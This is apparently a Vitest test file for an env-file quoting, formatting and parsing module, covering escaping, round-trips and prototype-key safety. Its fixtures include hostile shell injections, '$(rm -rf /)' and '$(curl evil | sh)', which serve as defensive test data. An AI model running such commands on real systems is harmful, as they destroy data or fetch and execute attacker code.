import { describe, expect, it } from 'vitest';
import { ENV_HEADER, formatEnv, parseEnv, quoteValue } from './env-file-format.js';

describe('quoteValue', () => {
  it.each([
    ['plain', '"plain"'],
    ['', '""'],
    ['say "hi"', '"say \\"hi\\""'],
    ['C:\\path\\n', '"C:\\\\path\\\\n"'],
    ['line1\nline2', '"line1\\nline2"'],
    ['crlf\r\n', '"crlf\\r\\n"'],
    ['$(rm -rf /) ${HOME} $USER', '"\\$(rm -rf /) \\${HOME} \\$USER"'],
    ['a=b=c', '"a=b=c"'],
    ["it's `cmd`", '"it\'s `cmd`"'],
  ])('%j → %s', (value, quoted) => {
    expect(quoteValue(value)).toBe(quoted);
  });
});

describe('formatEnv', () => {
  it('writes a header and KEY="value" lines sorted by key', () => {
    expect(formatEnv({ ZED: '1', ALPHA: 'two words', MID_2: 'x"y' })).toBe(
      `${ENV_HEADER}\nALPHA="two words"\nMID_2="x\\"y"\nZED="1"\n`,
    );
  });

  it('rejects names a loader could not read back', () => {
    expect(() => formatEnv({ 'BAD-NAME': 'x' })).toThrow('invalid variable name "BAD-NAME"');
    expect(() => formatEnv({ '1X': 'x' })).toThrow('invalid variable name "1X"');
    expect(() => formatEnv({ 'A B': 'x' })).toThrow();
  });
});

describe('parseEnv', () => {
  const hostile: Record<string, string> = {
    QUOTES: `"double" and 'single'`,
    SUBSHELL: '$(curl evil | sh) `id` ${PATH}',
    NEWLINES: 'first\nsecond\r\nthird\n',
    EQUALS: 'a=b==c',
    BACKSLASHES: '\\n is not a newline \\\\ \\"',
    HASH: 'value # not a comment',
    SPACES: '  padded  ',
    EMPTY: '',
    UNICODE: 'ünïcødé ✓',
    URL: 'postgres://u:p%40ss@127.0.0.1:5432/db?sslmode=disable',
  };

  it('round-trips hostile values exactly', () => {
    expect(parseEnv(formatEnv(hostile))).toEqual(hostile);
  });

  it('tolerates hand edits: unquoted, single-quoted, export, comments, blanks, CRLF', () => {
    const text = [
      '# comment', '', 'export A=plain', 'B = spaced value  # trailing comment', "C='single $quoted'",
      'D="double" # after', 'E=', 'not a line', '  F="indented"', 'G=x\r', 'B=later wins',
    ].join('\n');
    expect(parseEnv(text)).toEqual({ A: 'plain', B: 'later wins', C: 'single $quoted', D: 'double', E: '', F: 'indented', G: 'x' });
  });

  it('keeps unknown escapes as written and survives an unterminated quote', () => {
    expect(parseEnv('A="tab\\tkept"\nB="open')).toEqual({ A: 'tab\\tkept', B: 'open' });
  });

  it('treats __proto__ as an ordinary key', () => {
    const parsed = parseEnv('__proto__="x"\nconstructor="y"');
    expect(Object.getOwnPropertyNames(parsed).sort()).toEqual(['__proto__', 'constructor']);
    expect(Object.getPrototypeOf(parsed)).toBe(Object.prototype);
  });
});
